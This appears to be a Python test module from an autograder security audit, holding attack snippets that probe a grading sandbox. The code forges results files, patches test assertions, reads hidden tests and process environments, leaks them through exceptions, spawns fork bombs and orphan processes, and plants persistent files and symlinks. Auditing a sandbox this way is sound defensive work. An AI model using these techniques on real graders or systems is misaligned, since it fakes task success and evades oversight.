"""Attack snippets injected into a copy of reference/ (see __init__.py). Each is plain code,
run either at import (module level) or as the first lines of a graded function. `_leak`
makes anything the attack managed to read visible: printed, and in an exception message
(which reaches results.json). They never know the audit's canary."""

LEAK = '''
def _leak(found, label="LEAKED"):
    if found:
        text = " | ".join(str(f) for f in found).replace("\\n", " ")
        print(label, text[:20000])
        raise RuntimeError(label + " " + text[:900])
'''


def _fn(body: str) -> str:
    """Wrap attack code so it can be injected as statements (it defines its helpers first)."""
    return LEAK + body


_ROOTS = '''
import os as _os, sys as _sys, glob as _glob
def _roots():
    roots = {"/autograder/source", "/autograder"}
    grader = _sys.modules.get("grader")
    if grader is not None and getattr(grader, "__file__", None):
        roots.add(_os.path.dirname(_os.path.dirname(grader.__file__)))
    for cmd in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(cmd, "rb").read().decode(errors="replace").replace("\\0", " ")
        except OSError:
            continue
        for word in words.replace('"', " ").replace("'", " ").replace(",", " ").split():
            if word.startswith("/") and ("ps1" in word or "autograder" in word or "work" in word):
                path = word.rstrip("/")
                for _ in range(4):
                    roots.add(path)
                    path = _os.path.dirname(path)
    return roots
'''

FORGE_RESULTS = _ROOTS + '''
_forged = '{"score": 999, "tests": []}'
for _root in list(_roots()) + ["/autograder"]:
    for _target in (_os.path.join(_root, "results", "results.json"), _os.path.join(_root, "results.json")):
        try:
            with open(_target, "w") as _f:
                _f.write(_forged)
        except OSError:
            pass
        try:
            _os.chmod(_target, 0o777)
            _os.remove(_target)
        except OSError:
            pass
'''

EDIT_HARNESS = _ROOTS + '''
for _root in _roots():
    for _pattern in ("run_autograder", "setup.sh", "grader/*.py", "tests_public/*.py",
                     "tests_hidden/*.py", "reference/*.py", "conftest.py", "source/run_autograder"):
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            try:
                with open(_path, "a") as _f:
                    _f.write("\\nimport os; os.system('echo pwned')\\n")
            except OSError:
                pass
            try:
                _os.chmod(_path, 0o777)
            except OSError:
                pass
'''

CUSTOM_BASE = '''
class _Escape(BaseException):
    pass
raise _Escape("custom BaseException from evaluate")
'''

ALWAYS_EQUAL = '''
class _Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    def __rsub__(self, other): return 0
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __array__(self, *a, **k):
        raise TypeError("no")
    shape = property(lambda self: None)
return _Liar()
'''

FLOAT_SUBCLASS = '''
import numpy as _np
class _RiggedFloat(_np.float64):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __abs__(self): return _RiggedFloat(0.0)
    def __sub__(self, other): return _RiggedFloat(0.0)
    __hash__ = _np.float64.__hash__
return _RiggedFloat(-1.0)
'''

TENSOR_SUBCLASS = '''
class _Lying(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
return torch.zeros(logits.shape[0]).as_subclass(_Lying)
'''

PATCH_TORCH = '''
import numpy as _np
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), bool)
'''

PATCH_MACHINERY = '''
import sys as _sys, unittest as _ut, types as _types
for _name in dir(_ut.TestCase):
    if _name.startswith("assert"):
        setattr(_ut.TestCase, _name, lambda *a, **k: None)
try:
    import _pytest.outcomes as _out
    _out.fail = lambda *a, **k: None
    import _pytest.runner as _runner
    _runner.call_and_report = lambda *a, **k: None
    import pytest as _pt
    _pt.fail = lambda *a, **k: None
except Exception:
    pass
_fake = _types.ModuleType("gradescope_utils")
_fake.__path__ = []
_sys.modules["gradescope_utils"] = _fake
_sys.modules["gradescope_utils.autograder_utils"] = _fake
try:
    import gradescope_utils.autograder_utils.json_test_runner as _jtr
    _jtr.JSONTestRunner.run = lambda *a, **k: None
except Exception:
    pass
'''

CONFIG_FILES = {
    "conftest.py": ("import pytest\n"
                    "@pytest.hookimpl(hookwrapper=True)\n"
                    "def pytest_runtest_makereport(item, call):\n"
                    "    outcome = yield\n    report = outcome.get_result()\n"
                    "    report.outcome = 'passed'\n"
                    "def pytest_sessionfinish(session, exitstatus):\n    session.exitstatus = 0\n"),
    "pytest.ini": "[pytest]\naddopts = -p no:grader.plugin --co\n",
    "sitecustomize.py": "import builtins\nbuiltins.__import__ = None\n",
    "evil.pth": "import os; os.environ['PWNED'] = '1'\n",
    "torch.py": "raise ImportError('shadowed torch')\n",
    "numpy.py": "raise ImportError('shadowed numpy')\n",
    "grader/__init__.py": "raise SystemExit('shadowed grader')\n",
}

READ_SECRETS = _fn(_ROOTS + '''
_found = []
for _root in _roots():
    for _sub in ("reference", "tests_hidden", "source/reference", "source/tests_hidden"):
        for _path in _glob.glob(_os.path.join(_root, _sub, "*")):
            try:
                _found.append(_path + ": " + open(_path, errors="replace").read())
            except OSError:
                pass
_leak(_found)
''')

READ_ENVIRON = _fn('''
import glob as _glob, os as _os
_found = []
for _path in _glob.glob("/proc/[0-9]*/environ"):
    try:
        if _os.stat(_path).st_uid == _os.getuid():
            continue
        _data = open(_path, "rb").read().decode(errors="replace")
        if _data:
            _found.append(_path + ": " + _data.replace("\\0", " "))
    except OSError:
        pass
_leak(_found)
''')

READ_ARGV = _fn('''
import glob as _glob
_found = []
for _path in _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _found.append(open(_path, "rb").read().decode(errors="replace").replace("\\0", " "))
    except OSError:
        pass
_leak(_found or ["nothing readable"], label="ARGV")
''')

IMPORT_REFERENCE = _fn('''
import importlib as _il, sys as _sys
_found = []
for _name in ("reference", "reference.probability", "ps1_reference", "ps1_reference.probability",
              "tests_hidden", "tests_hidden.test_made", "reference_solution"):
    try:
        _mod = _il.import_module(_name)
    except BaseException:
        continue
    _file = getattr(_mod, "__file__", None)
    if _file is None:  # even an empty namespace package tells where the grader keeps it
        _found.append("namespace package " + _name + " " + str(list(getattr(_mod, "__path__", []))))
        continue
    try:
        _found.append(_name + ": " + open(_file).read())
    except OSError:
        _found.append(_name + " imported from " + str(_file))
_leak(_found)
''')

HARDCODE_PUBLIC = '''
import os as _os
_public_p = torch.tensor([[0.5, 0.5, 0.0], [0.1, 0.2, 0.7], [0.25, 0.25, 0.5]], dtype=p.dtype)
if p.shape == _public_p.shape and torch.equal(p, _public_p):
    return torch.tensor([0.6931471805599453, 0.20077680106635193, float("inf")], dtype=p.dtype)
return torch.zeros(p.shape[:-1], dtype=p.dtype)
'''

SETSID_GRANDCHILD = _ROOTS + '''
import time as _time
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _time.sleep(4)
            for _root in list(_roots()):
                try:
                    open(_os.path.join(_root, "results", "results.json"), "w").write('{"score": 999}')
                except OSError:
                    pass
            try:
                open(DROP_DIR + "/grandchild-survived", "w").write("alive")
            except OSError:
                pass
    finally:
        _os._exit(0)
'''

FORK_BOMB = '''
import os as _os
if _os.getuid() == 0:
    raise RuntimeError("refusing a fork bomb outside the sandbox user")
while True:
    _os.fork()
'''

ALLOCATE = '''
_hog = torch.empty(50 * 2**30, dtype=torch.uint8)
_hog.fill_(1)
'''

PRINT_1GB = '''
import sys as _sys
_chunk = "PASSED " * (1 << 17) + "\\n"
for _ in range(1024):
    _sys.stdout.write(_chunk)
_sys.stdout.flush()
'''

FAKE_LINES = '''
import sys as _sys
print("tests_public/test_probability.py::test_bits_per_dim PASSED")
print('{"score": 40.0, "tests": [{"score": 40, "max_score": 40, "status": "passed"}]}')
print("Total: 40 / 40")
_sys.stderr.write("===== 40 passed in 0.01s =====\\n")
'''

WRITE_TMP = '''
import os as _os, tempfile as _tf
for _dir in ("/tmp", "/var/tmp", "/dev/shm", _tf.gettempdir()):
    try:
        with open(_os.path.join(_dir, "ps1-audit-big.bin"), "wb") as _f:
            _block = b"\\0" * (1 << 20)
            for _ in range(10 * 1024):
                _f.write(_block)
    except OSError:
        pass
'''

GLOBAL_STATE = '''
torch.manual_seed(12345)
torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
torch.set_num_threads(1)
import random as _random, numpy as _np
_random.seed(1)
_np.random.seed(1)
'''

SOCKET = _fn('''
import socket as _s
_found = []
for _host, _port in (("8.8.8.8", 53), ("1.1.1.1", 443), ("127.0.0.1", 22), ("127.0.0.1", 2024),
                     ("127.0.0.1", 80)):
    try:
        _conn = _s.create_connection((_host, _port), timeout=1)
        _found.append(f"connected to {_host}:{_port}")
        _conn.close()
    except Exception:  # OSError, or LookupError when the idna codec cannot be imported
        pass
try:
    _found.append("dns " + str(_s.gethostbyname("example.com")))
except Exception:  # OSError, or LookupError when the idna codec cannot be imported
    pass
_leak(_found, label="NETWORK")
''')

SETUID_KILL = _fn('''
import os as _os, signal as _sig
_found = []
for _attempt in (lambda: _os.setuid(0), lambda: _os.seteuid(0), lambda: _os.setgid(0)):
    try:
        _attempt()
        _found.append("became root")
    except OSError:
        pass
for _pid in ((_os.getppid(), 1) if _os.getuid() != 0 else ()):
    try:
        _os.kill(_pid, _sig.SIGKILL)
        _found.append(f"killed {_pid}")
    except OSError:
        pass
_leak(_found, label="PRIVILEGE")
''')

# ----------------------------------------------------------------------------- forgeries
# Classes of issue 9: values a worker sends back are the student's choice; each must score
# what the honest code deserves.

PATCH_PROBES = '''
import sys as _sys
import torch as _torch
for _name in ("grader.worker.probes", "grader.probes"):
    _mod = _sys.modules.get(_name)
    if _mod is None:
        continue
    _orig = _mod.PROBES.get("model_outputs")
    if _orig is not None:
        def _no_dependence(student, *a, _orig=_orig, **k):
            out = _orig(student, *a, **k)
            out["outputs"] = [out["outputs"][0]] * len(out["outputs"])  # no input ever matters
            return out
        _mod.PROBES["model_outputs"] = _no_dependence
    if "made_dependencies" in _mod.PROBES:  # the probe that measured dependence in-process
        _mod.PROBES["made_dependencies"] = lambda student, arch, **k: _torch.tril(
            _torch.ones(arch["num_inputs"], arch["num_inputs"], dtype=_torch.float64), -1)
    for _helper in ("_all_paths_alive", "_sgd_step"):
        if hasattr(_mod, _helper):
            setattr(_mod, _helper, lambda *a, **k: None)
import torch.autograd.functional as _af
_af.jacobian = lambda f, x, *a, **k: _torch.zeros(1)
'''

FORGE_FRAME = '''
import os as _os, sys as _sys
def _forge():
    wire = _sys.modules.get("grader.wire")
    frame, request = _sys._getframe(), None
    while frame is not None and request is None:
        candidate = frame.f_locals.get("request")
        if isinstance(candidate, dict) and "probe" in candidate:
            request = candidate
        frame = frame.f_back
    if wire is None or request is None:
        return
    import torch as _t
    kwargs, value = request.get("kwargs", {}), None
    if request["probe"] == "model_outputs" and kwargs.get("state"):
        # A MADE whose masks cut every connection: weights as loaded, so its output is the
        # last layer's bias, which is what these forged outputs are. No input ever matters.
        state = kwargs["state"]
        layers = {k: v for k, v in state.items()}
        last = max(int(k.split(".")[1]) for k in state if k.startswith("layers."))
        for k in list(state):
            if k.endswith(".weight"):
                layers[k.replace(".weight", ".mask")] = _t.zeros_like(state[k])
        bias = state[f"layers.{last}.bias"].double()
        value = {"outputs": [bias.expand(q.shape[0], -1).clone() for q in kwargs["queries"]],
                 "layers": layers}
    elif request["probe"] == "made_dependencies":
        n = kwargs["arch"]["num_inputs"]
        value = _t.tril(_t.ones(n, n, dtype=_t.float64), -1)
    frame = wire.encode({"ok": True, "value": value})
    for fd in range(256):
        try:
            _os.write(fd, frame)
        except OSError:
            pass
    _os._exit(0)
_forge()
'''

TRAIN_IN_GRANDCHILD = '''
import io as _io, os as _os, time as _time
_read, _write = _os.pipe()
_pid = _os.fork()
if _pid == 0:  # the grandchild trains, then burns 10x that CPU time, then sends the weights
    _start = _time.process_time()
    _optimizer = torch.optim.Adam(model.parameters(), lr=lr)
    _losses = []
    _generator = generator
    for _ in range(steps):
        _index = torch.randint(len(data), (batch_size,), generator=_generator)
        _x = data[_index]
        _loss = (loss_fn or _default_loss())(model(_x), _x).mean()
        _optimizer.zero_grad()
        _loss.backward()
        _optimizer.step()
        _losses.append(_loss.item())
    _end = _time.process_time() + 10 * (_time.process_time() - _start)
    while _time.process_time() < _end:
        pass
    _buffer = _io.BytesIO()
    torch.save({"state": model.state_dict(), "losses": _losses}, _buffer)
    _view = memoryview(_buffer.getvalue())
    while _view:
        _view = _view[_os.write(_write, _view):]
    _os._exit(0)
_os.close(_write)
_chunks = []
while True:
    _chunk = _os.read(_read, 1 << 20)
    if not _chunk:
        break
    _chunks.append(_chunk)
_os.waitpid(_pid, 0)
_result = torch.load(_io.BytesIO(b"".join(_chunks)), weights_only=True)
model.load_state_dict(_result["state"])
return _result["losses"]
'''

ORPHAN_KEEPS_WORKING = '''
import os as _os
if _os.fork() == 0:  # left running after train returns
    _os.setsid()
    while True:
        pass
'''

PERFECT_PREDICTOR = '''
# No training at all: losses that look right, and a model whose forward peeks at its input
# (a "perfect predictor") whenever anything evaluates it afterwards in this process.
model.forward = lambda x: 100.0 * (2 * x - 1)
return [500.0 * 0.99 ** step for step in range(steps)]
'''

# ----------------------------------------------------------------------------- leaks (issue 10)

PERSIST_PLANT = '''
import os as _os, ctypes as _ctypes
_places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"]
for _top in ("/tmp", "/var/tmp"):  # world-writable folders owned by someone else
    try:
        _places += [e.path for e in _os.scandir(_top) if e.is_dir(follow_symlinks=False)
                    and e.stat(follow_symlinks=False).st_mode & 0o002]
    except OSError:
        pass
for _folder in _places:
    for _path in (_os.path.join(_folder, MARKER), _os.path.join(_folder, MARKER + "-dir", "a", MARKER)):
        try:
            _os.makedirs(_os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _f:
                _f.write("persisted")
        except OSError:
            pass
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmget(0x50533131, 4096, 0o1000 | 0o666)
'''

PERSIST_LOOK = '''
import os as _os, ctypes as _ctypes
_found = []
for _top in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"):
    for _root, _dirs, _files in _os.walk(_top):
        _found += [_os.path.join(_root, _n) for _n in _dirs + _files if MARKER in _n]
if _ctypes.CDLL(None, use_errno=True).shmget(0x50533131, 0, 0) >= 0:
    _found.append("SysV shm")
if _found:  # something from an earlier test survived: this answer is wrong on purpose
    return nll_nats * 0 + 12345.0
'''

LOCK_SYMLINKS = '''
import os as _os
for _folder in ("/run/lock", "/tmp", "/var/tmp", "/run/ps1-grader", "/var/lib/ps1-grader"):
    for _slot in range(33):
        _name = "ps1sandbox" + ("" if _slot == 0 else str(_slot)) + ".lock"
        try:
            _os.symlink(VICTIM_PATH, _os.path.join(_folder, _name))
        except OSError:
            pass
'''

DEEP_TREE = '''
import os as _os
for _base in (_os.getcwd(), "/tmp", "/dev/shm"):
    _path = _os.path.join(_base, MARKER)
    try:
        _os.makedirs(_path, exist_ok=True)
        _fd = _os.open(_path, _os.O_RDONLY)
        for _ in range(3000):  # deeper than any recursive delete survives
            _os.mkdir("d", dir_fd=_fd)
            _next = _os.open("d", _os.O_RDONLY, dir_fd=_fd)
            _os.close(_fd)
            _fd = _next
        _os.close(_fd)
    except OSError:
        pass
'''

READ_CHECKOUT = _fn(_ROOTS + '''
_found = []
for _root in _roots():
    for _pattern in (".ps1-audit-canary", ".git/config", ".git/HEAD", "dist/*",
                     "grader/trusted/manifest.toml", "tests_hidden/*.py"):
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            try:
                with open(_path, "rb") as _f:
                    _data = _f.read(200000).decode(errors="replace")
                if "hidden" in _pattern or "canary" in _pattern or "tests_hidden" in _data or "CANARY" in _data:
                    _found.append(_path + ": " + _data)
            except OSError:
                pass
_leak(_found)
''')
